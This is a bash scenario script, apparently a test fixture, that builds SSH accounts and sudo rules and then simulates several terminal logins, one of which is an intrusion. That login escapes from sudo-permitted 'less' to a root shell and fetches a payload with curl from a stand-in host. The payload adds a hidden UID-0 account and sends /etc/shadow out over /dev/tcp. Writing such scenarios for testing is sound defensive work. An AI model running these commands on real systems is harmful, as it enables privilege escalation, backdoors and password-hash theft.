# shellcheck shell=bash disable=SC2034
HOST=desk12
FORMAT=ENRICHED
RULES=minimal
UNSET=1

# sits ADDRESS ACCOUNT TEXT...: somebody logs in with a terminal and types, a line each second and a half (a number waits so long).
sits() {
    local line
    for line in "${@:3}"; do
        if [[ $line == [0-9]* ]]; then sleep "$line"; else sleep 1.5 && printf '%s\r' "$line"; fi
    done | TERM=xterm outside ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b "$1" -i "$work/$1.key" \
        "$2@10.88.0.10" >>"$work/typed" 2>&1
}

scenario() {
    local who
    mkdir -p /run/sshd /run/sudo "$work/theirs"
    fresh /var/lib/sudo
    mount -t tmpfs -o mode=700 recorded /root
    cp /usr/share/base-files/dot.bashrc /root/.bashrc
    account ops 4051
    account help 4052
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    for who in 192.0.2.7:ops 10.88.0.55:help 198.51.100.23:help; do
        ssh-keygen -q -t ed25519 -N "" -C "${who#*:}" -f "$work/${who%:*}.key"
        cat "$work/${who%:*}.key.pub" >>"/srv/home/${who#*:}/.ssh/authorized_keys"
    done
    printf '%s\n' "ops ALL=(ALL) NOPASSWD: ALL" "help ALL=(root) NOPASSWD: /usr/bin/less /var/log/*" >/etc/sudoers.d/desk
    chmod 440 /etc/sudoers.d/desk
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' '/usr/sbin/useradd -o -u 0 -M sysd' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /etc/shadow >&3' >"$work/theirs/l"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    sleep 1
    sits 192.0.2.7 ops "sudo ls /root" "exit"
    sits 10.88.0.55 help "sudo less /var/log/dpkg.log" "q" 28 "sudo less /var/log/dpkg.log" "q" "who" "exit" &
    local colleague=$!
    sleep 7
    sits 198.51.100.23 help "id" "sudo -n -l" "sudo less /var/log/alternatives.log" "!bash" "curl -s -o /root/.l http://203.0.113.9:443/l" \
        "bash /root/.l" "exit" "" "q" "exit"
    wait "$colleague"
    sits 192.0.2.7 ops "sudo ls /root" "exit"
}
